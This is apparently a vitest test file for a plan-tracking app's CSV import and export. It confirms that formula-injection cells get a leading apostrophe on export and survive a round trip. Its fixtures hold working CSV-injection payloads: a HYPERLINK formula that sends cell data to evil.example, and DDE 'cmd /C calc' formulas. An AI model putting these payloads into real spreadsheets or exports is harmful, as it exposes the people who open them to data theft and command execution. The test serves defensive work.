/**
 * Finding 5 of issue 10: exports neutralise text a spreadsheet would run as a formula (OWASP's
 * CSV injection guidance), imports keep the whitespace that hides one, and a plan exported and
 * imported again is unchanged.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { neutraliseFormula, restoreFormula } from '../../../pipelines/csv-formulas.js';
import { toSafeText } from '../../../pipelines/action-plans/safe-text.js';
import type { ActionView } from '../../../server/action-plans/plan-view.js';
import { Database } from '../../../server/db/database.js';
import { csvLine } from '../../../server/http/response-format.js';
import { postJson, startPlanServer, type PlanServer } from '../action-plans/plan-app.js';

let db: Database;
let server: PlanServer;

const HOSTILE = {
  objective: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  action: "+cmd|' /C calc'!A0",
  output: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  references: '-2+3+cmd|\' /C calc\'!A0',
  // Read as a neutralised "=already quoted", as our own export would have written that.
  budget_source: "'=already quoted",
};

beforeAll(async () => {
  db = await Database.open({ path: ':memory:' });
  server = await startPlanServer(db);
  const actions = [
    'plan,plan_name,area_code,ref,parent_ref,strand,objective,action,lead,due,output,cost_gbp,budget_source,references,priority,indicators',
    // Written as an attacker would, formulas bare (csvLine would neutralise them).
    ['hostile', '=1+1 plan', 'E08000007', '1', '', 'Prevent', HOSTILE.objective, HOSTILE.action, '@Police', '', HOSTILE.output, '', HOSTILE.budget_source, HOSTILE.references, '', '']
      .map((cell) => `"${cell.replaceAll('"', '""')}"`)
      .join(','),
    'hostile,,,2,,Prevent,,"\t=cmd|\' /C calc\'!A0",,,,,,,,',
  ].join('\n');
  const status = 'plan,ref,period,status,note\nhostile,1,2014-Q4,On track,=HYPERLINK("x")\n';
  const res = await postJson(server, '/api/plans', { actions, status });
  expect(res.status).toBe(201);
});
afterAll(async () => {
  await server.close();
  db.close();
});

function cells(csv: string): string[] {
  return Papa.parse<string[]>(csv.trim(), { skipEmptyLines: true }).data.flat();
}

describe('formula cells in CSV exports', () => {
  it('are written with a leading apostrophe in the plan export (actions and status)', async () => {
    for (const file of ['actions', 'status']) {
      const res = await server.request(`/api/plans/hostile/export?file=${file}`, 'viewer');
      const written = cells(await res.text());
      const dangerous = written.filter((cell) => /^[=+\-@\t\r]/.test(cell));
      expect(dangerous, file).toEqual([]);
    }
    const actions = cells(await (await server.request('/api/plans/hostile/export', 'viewer')).text());
    expect(actions).toContain(`'${HOSTILE.objective}`);
    expect(actions).toContain(`'${HOSTILE.action}`);
    expect(actions).toContain("'\t=cmd|' /C calc'!A0");
    expect(actions).toContain("'=already quoted");
  });

  it('are neutralised in the actions list as CSV too', async () => {
    const res = await server.request('/api/plans/hostile/actions', 'viewer', { headers: { accept: 'text/csv' } });
    expect(cells(await res.text()).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('leave numbers alone, negative ones included, and every other text as it is', () => {
    expect(csvLine([-3, 1.5, 'Stockport', '2015-Q1', null, true])).toBe('-3,1.5,Stockport,2015-Q1,,true');
    expect(csvLine(['-3'])).toBe("'-3");
    for (const text of ['=1', '+1', '-1', '@x', '\tx', '\rx', "'=x", "''+x", 'plain', "it's", '']) {
      expect(restoreFormula(neutraliseFormula(text))).toBe(text);
    }
  });
});

describe('imports', () => {
  it('keep the tab that stops a spreadsheet reading the text as a formula', async () => {
    const second = (await server.getJson<ActionView[]>('/api/plans/hostile/actions'))[1]!;
    expect(second.action).toBe("\t=cmd|' /C calc'!A0");
    expect(toSafeText('  \n\t=cmd')).toBe('\t=cmd');
    expect(toSafeText(toSafeText('\t=cmd  x'))).toBe('\t=cmd x');
    expect(toSafeText('\tplain text')).toBe('plain text');
  });

  it('keep a status note sent as JSON exactly as typed, apostrophe and all', async () => {
    for (const note of ["'=typed with its own apostrophe", '=SUM(1)', '- a dash first']) {
      const res = await postJson(server, '/api/plans/hostile/status', { ref: '2', period: '2015-Q1', status: 'on track', note });
      expect(res.status, note).toBe(201);
      const action = await server.getJson<ActionView>('/api/plans/hostile/actions/2');
      expect(action.statuses.at(-1)?.note).toBe(note);
    }
  });

  it('read an export back to the same plan', async () => {
    const before = await server.getJson<ActionView[]>('/api/plans/hostile/actions');
    const files = {
      actions: await (await server.request('/api/plans/hostile/export?file=actions', 'viewer')).text(),
      status: await (await server.request('/api/plans/hostile/export?file=status', 'viewer')).text(),
    };
    expect((await postJson(server, '/api/plans', files)).status).toBe(201);
    expect(await server.getJson<ActionView[]>('/api/plans/hostile/actions')).toEqual(before);
    expect(before[0]).toMatchObject({ objective: HOSTILE.objective, action: HOSTILE.action, references: HOSTILE.references, budget_source: '=already quoted' });
  });
});
